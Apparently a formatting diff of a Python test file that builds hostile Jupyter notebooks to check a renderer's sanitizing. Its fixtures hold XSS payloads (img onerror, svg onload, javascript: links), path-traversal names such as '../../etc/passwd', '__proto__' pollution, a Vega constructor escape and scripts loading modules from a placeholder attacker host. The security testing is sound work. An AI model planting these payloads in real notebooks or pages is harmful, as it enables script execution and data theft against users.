@@ -25,28 +25,44 @@ PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAW
 FIELDS = {
     "cell type": lambda: file({"cell_type": OUT, "metadata": {}, "source": OUT}),
     "cell id": lambda: file(code("1", id=OUT), markdown("x", id="main"), markdown("y", id="main")),
-    "count": lambda: file({**code("1"), "execution_count": OUT}, {**code("2"), "execution_count": "*"}),
-    "language": lambda: file(code("1"), metadata={"language_info": {"name": OUT, "pygments_lexer": OUT}}),
+    "count": lambda: file(
+        {**code("1"), "execution_count": OUT}, {**code("2"), "execution_count": "*"}
+    ),
+    "language": lambda: file(
+        code("1"), metadata={"language_info": {"name": OUT, "pygments_lexer": OUT}}
+    ),
     "language, a path": lambda: file(
-        code("1"), metadata={"language_info": {"name": "../../etc/passwd", "file_extension": ".py/../"}}
+        code("1"),
+        metadata={"language_info": {"name": "../../etc/passwd", "file_extension": ".py/../"}},
     ),
     "kernel": lambda: file(
         code("1"), metadata={"kernelspec": {"display_name": OUT, "language": OUT, "name": OUT}}
     ),
-    "title and authors": lambda: file(metadata={"title": OUT, "authors": [{"name": OUT}], OUT: OUT}),
+    "title and authors": lambda: file(
+        metadata={"title": OUT, "authors": [{"name": OUT}], OUT: OUT}
+    ),
     "tags": lambda: file(code("1", metadata={"tags": [OUT, "main", {"a": 1}, "x" * 10_000]})),
     "cell metadata": lambda: file(
-        code("1", metadata={"name": OUT, "slideshow": {"slide_type": OUT}, "collapsed": OUT, OUT: OUT})
+        code(
+            "1",
+            metadata={"name": OUT, "slideshow": {"slide_type": OUT}, "collapsed": OUT, OUT: OUT},
+        )
     ),
     "unknown keys": lambda: file({**code("1"), OUT: OUT, "__proto__": {"x": 1}}, **{OUT: OUT}),
     "raw cell format": lambda: file(
-        {"cell_type": "raw", "metadata": {"raw_mimetype": "text/html", "format": OUT}, "source": OUT}
+        {
+            "cell_type": "raw",
+            "metadata": {"raw_mimetype": "text/html", "format": OUT},
+            "source": OUT,
+        }
     ),
     "heading level": lambda: file(
         {"cell_type": "heading", "level": OUT, "source": OUT, "metadata": {}},
         {"cell_type": "heading", "level": 10**9, "source": "x", "metadata": {}},
     ),
-    "stream name": lambda: file(code("1", stream("x", OUT), stream("y", {"a": 1}), stream(OUT, "stderr"))),
+    "stream name": lambda: file(
+        code("1", stream("x", OUT), stream("y", {"a": 1}), stream(OUT, "stderr"))
+    ),
     "error": lambda: file(code("1", error(OUT, OUT, OUT, f"\x1b[31m{OUT}\x1b[0m"))),
     "error, wrong types": lambda: file(code("1", error({"a": 1}, [OUT], {"b": OUT}, None, 7))),
     "output type": lambda: file(code("1", {"output_type": OUT, "data": {"text/html": OUT}})),
@@ -54,7 +70,9 @@ FIELDS = {
         code("1", display({OUT: OUT, f"text/html; charset={OUT}": OUT, f'image/png"{OUT}': PNG}))
     ),
     "type names, near misses": lambda: file(
-        code("1", display({"TEXT/HTML": OUT, "text/html ": OUT, "image/../text/html": OUT, "": OUT}))
+        code(
+            "1", display({"TEXT/HTML": OUT, "text/html ": OUT, "image/../text/html": OUT, "": OUT})
+        )
     ),
     "image size": lambda: file(
         code("1", display({"image/png": PNG}, **{"image/png": {"width": OUT, "height": OUT}}))
@@ -72,19 +90,25 @@ FIELDS = {
     ),
     "isolated": lambda: file(code("1", display({"text/html": OUT}, isolated=True))),
     "version": lambda: file(code(OUT), nbformat=OUT, nbformat_minor={"a": OUT}),
-    "worksheet": lambda: b'{"worksheets": [{"cells": [{"cell_type": "code", "input": "x", "language": '
-    b'"\\"><img src=x onerror=window.pwned=1>", "outputs": [], "prompt_number": "<b>"}], "name": "<b>"}],'
-    b' "metadata": {"name": "<img src=x onerror=window.pwned=1>"}, "nbformat": 3}',
-    "nbformat 2 outputs": lambda: b'{"worksheets": [{"cells": [{"cell_type": "code", "input": "x", "outputs":'
-    b' [{"output_type": "pyout", "html": "<img src=x onerror=window.pwned=1>", "javascript":'
-    b' "window.pwned=1", "svg": "<svg onload=window.pwned=1>", "latex": "$\\\\href{javascript:1}{x}$"}]}]}],'
-    b' "nbformat": 2}',
+    "worksheet": lambda: (
+        b'{"worksheets": [{"cells": [{"cell_type": "code", "input": "x", "language": '
+        b'"\\"><img src=x onerror=window.pwned=1>", "outputs": [], "prompt_number": "<b>"}], "name": "<b>"}],'
+        b' "metadata": {"name": "<img src=x onerror=window.pwned=1>"}, "nbformat": 3}'
+    ),
+    "nbformat 2 outputs": lambda: (
+        b'{"worksheets": [{"cells": [{"cell_type": "code", "input": "x", "outputs":'
+        b' [{"output_type": "pyout", "html": "<img src=x onerror=window.pwned=1>", "javascript":'
+        b' "window.pwned=1", "svg": "<svg onload=window.pwned=1>", "latex": "$\\\\href{javascript:1}{x}$"}]}]}],'
+        b' "nbformat": 2}'
+    ),
     "attachment names": lambda: file(
         markdown(
             f"![a](attachment:{OUT}) ![b](attachment:../x.png) ![c](attachment:c.png)",
             attachments={
-                **{OUT: {"image/png": PNG}, "../../x.png": {"image/png": PNG}},
-                **{"c.png": {"text/html": OUT, OUT: OUT}, "/etc/passwd": {"image/png": PNG}},
+                OUT: {"image/png": PNG},
+                "../../x.png": {"image/png": PNG},
+                "c.png": {"text/html": OUT, OUT: OUT},
+                "/etc/passwd": {"image/png": PNG},
             },
         )
     ),
@@ -106,16 +130,31 @@ STATE = "application/vnd.jupyter.widget-state+json"
 JAVASCRIPT = "application/javascript"
 
 RICH = {
-    "javascript": lambda: file(code("1", display({JAVASCRIPT: PWNED}), display({JAVASCRIPT: [PWNED]}))),
+    "javascript": lambda: file(
+        code("1", display({JAVASCRIPT: PWNED}), display({JAVASCRIPT: [PWNED]}))
+    ),
     "javascript, other names": lambda: file(
-        code("1", *[display({mime: PWNED}) for mime in ("text/javascript", "application/ecmascript")]),
+        code(
+            "1", *[display({mime: PWNED}) for mime in ("text/javascript", "application/ecmascript")]
+        ),
         code("2", *[display({mime: PWNED}) for mime in ("application/x-javascript", "text/jsx")]),
     ),
     "javascript asks for modules": lambda: file(
-        code("1", display({JAVASCRIPT: f"require(['{EVIL}/x'], () => {{ {PWNED} }}); element.append('x')"}))
+        code(
+            "1",
+            display(
+                {JAVASCRIPT: f"require(['{EVIL}/x'], () => {{ {PWNED} }}); element.append('x')"}
+            ),
+        )
     ),
     "plotly title": lambda: file(
-        code("1", rich(PLOTLY, {"data": [], "layout": {"title": {"text": OUT}, "annotations": [{"text": OUT}]}}))
+        code(
+            "1",
+            rich(
+                PLOTLY,
+                {"data": [], "layout": {"title": {"text": OUT}, "annotations": [{"text": OUT}]}},
+            ),
+        )
     ),
     "plotly link and image": lambda: file(
         code(
@@ -131,20 +170,38 @@ RICH = {
         )
     ),
     "plotly, wrong types": lambda: file(
-        code("1", *[rich(PLOTLY, value) for value in (OUT, [OUT], {"data": OUT, "layout": [OUT]}, None, 7)])
+        code(
+            "1",
+            *[
+                rich(PLOTLY, value)
+                for value in (OUT, [OUT], {"data": OUT, "layout": [OUT]}, None, 7)
+            ],
+        )
     ),
     "vega address": lambda: file(
         code("1", rich(VEGA, {"data": {"url": f"{EVIL}/d.csv"}, "mark": "point", "title": OUT}))
     ),
     "vega link and image": lambda: file(
-        code("1", rich(VEGA, {"mark": "image", "encoding": {"url": {"value": f"{EVIL}/t.png"}, "href": {"value": JS}}}))
+        code(
+            "1",
+            rich(
+                VEGA,
+                {
+                    "mark": "image",
+                    "encoding": {"url": {"value": f"{EVIL}/t.png"}, "href": {"value": JS}},
+                },
+            ),
+        )
     ),
     "vega expression": lambda: file(
         code(
             "1",
             rich(
                 "application/vnd.vega.v5+json",
-                {"signals": [{"name": "x", "update": f"constructor.constructor('{PWNED}')()"}], "marks": OUT},
+                {
+                    "signals": [{"name": "x", "update": f"constructor.constructor('{PWNED}')()"}],
+                    "marks": OUT,
+                },
             ),
         )
     ),
@@ -153,7 +210,13 @@ RICH = {
         metadata={
             "widgets": {
                 STATE: {
-                    "state": {OUT: {"model_module": f"{EVIL}/m.js", "model_name": OUT, "state": {"value": OUT}}},
+                    "state": {
+                        OUT: {
+                            "model_module": f"{EVIL}/m.js",
+                            "model_name": OUT,
+                            "state": {"value": OUT},
+                        }
+                    },
                     "version_major": 2,
                 }
             }
@@ -168,7 +231,11 @@ RICH = {
                         "a": {
                             "model_module": "@jupyter-widgets/controls",
                             "model_name": "HTMLModel",
-                            "state": {"value": OUT, "_dom_classes": ["main", OUT], "layout": "IPY_MODEL_a"},
+                            "state": {
+                                "value": OUT,
+                                "_dom_classes": ["main", OUT],
+                                "layout": "IPY_MODEL_a",
+                            },
                         }
                     }
                 }
@@ -176,38 +243,79 @@ RICH = {
         },
     ),
     "widgets, wrong types": lambda: file(
-        code("1", rich(WIDGET, OUT), rich(WIDGET, [OUT])), metadata={"widgets": {STATE: {"state": [OUT]}}}
+        code("1", rich(WIDGET, OUT), rich(WIDGET, [OUT])),
+        metadata={"widgets": {STATE: {"state": [OUT]}}},
     ),
     "bokeh": lambda: file(
         code("1", display({"application/vnd.bokehjs_load.v0+json": "", JAVASCRIPT: PWNED})),
-        code("2", display({"application/vnd.bokehjs_exec.v0+json": "", "text/html": OUT}, **{
-            "application/vnd.bokehjs_exec.v0+json": {"id": OUT, "server_id": EVIL}})),
+        code(
+            "2",
+            display(
+                {"application/vnd.bokehjs_exec.v0+json": "", "text/html": OUT},
+                **{"application/vnd.bokehjs_exec.v0+json": {"id": OUT, "server_id": EVIL}},
+            ),
+        ),
     ),
     "holoviews": lambda: file(
-        code("1", display({"application/vnd.holoviews_exec.v0+json": "", "text/html": OUT, JAVASCRIPT: PWNED}))
+        code(
+            "1",
+            display(
+                {"application/vnd.holoviews_exec.v0+json": "", "text/html": OUT, JAVASCRIPT: PWNED}
+            ),
+        )
     ),
     "map": lambda: file(
-        code("1", rich("application/geo+json", {"type": "FeatureCollection", "features": [{"properties": {"name": OUT}}]}))
+        code(
+            "1",
+            rich(
+                "application/geo+json",
+                {"type": "FeatureCollection", "features": [{"properties": {"name": OUT}}]},
+            ),
+        )
     ),
     "latex": lambda: file(
-        code("1", display({"text/latex": f"$$\\href{{{JS}}}{{x}}\\includegraphics{{{EVIL}/t.png}}$$"})),
+        code(
+            "1",
+            display({"text/latex": f"$$\\href{{{JS}}}{{x}}\\includegraphics{{{EVIL}/t.png}}$$"}),
+        ),
         code("1", display({"text/latex": f"\\begin{{x}}{OUT}\\end{{x}}"})),
     ),
     "mermaid": lambda: file(
-        markdown(f"```mermaid\ngraph TD; A[\"{OUT}\"]; click A href \"{JS}\"\n```"),
-        code("1", display({"text/vnd.mermaid": f"graph TD; click A href \"{JS}\""})),
+        markdown(f'```mermaid\ngraph TD; A["{OUT}"]; click A href "{JS}"\n```'),
+        code("1", display({"text/vnd.mermaid": f'graph TD; click A href "{JS}"'})),
     ),
     "pdf": lambda: file(
-        code("1", display({"application/pdf": "JVBERi0xLjQKMSAwIG9iago8PC9PcGVuQWN0aW9uPDwvUy9KYXZhU2NyaXB0Pj4+Pg=="}))
+        code(
+            "1",
+            display(
+                {
+                    "application/pdf": "JVBERi0xLjQKMSAwIG9iago8PC9PcGVuQWN0aW9uPDwvUy9KYXZhU2NyaXB0Pj4+Pg=="
+                }
+            ),
+        )
     ),
     "json": lambda: file(
-        code("1", rich("application/json", {OUT: OUT, "__proto__": {"pwned": 1}, "constructor": OUT}))
+        code(
+            "1", rich("application/json", {OUT: OUT, "__proto__": {"pwned": 1}, "constructor": OUT})
+        )
     ),
     "page in a type of text": lambda: file(
-        code("1", *[display({mime: OUT}) for mime in ("text/xml", "application/xhtml+xml", "text/css", "multipart/x")])
+        code(
+            "1",
+            *[
+                display({mime: OUT})
+                for mime in ("text/xml", "application/xhtml+xml", "text/css", "multipart/x")
+            ],
+        )
     ),
     "video and audio": lambda: file(
-        code("1", *[display({mime: f"{EVIL}/v"}) for mime in ("video/mp4", "audio/wav", "model/gltf+json")])
+        code(
+            "1",
+            *[
+                display({mime: f"{EVIL}/v"})
+                for mime in ("video/mp4", "audio/wav", "model/gltf+json")
+            ],
+        )
     ),
 }
 
@@ -261,6 +369,11 @@ def said(text: str) -> bytes:
 ENTRIES = [
     *notebooks("field", f"{NO_SCRIPT}, {NO_TAKEOVER}", FIELDS),
     *notebooks("rich output", f"{NO_SCRIPT}, {NO_REQUEST}", RICH),
-    *family("terminal", "no address is linked, nothing shown is hidden, no control gets through", TERMINAL, said),
+    *family(
+        "terminal",
+        "no address is linked, nothing shown is hidden, no control gets through",
+        TERMINAL,
+        said,
+    ),
     *family("text", "nothing reads other than it is without a sign", TEXTS, said),
 ]
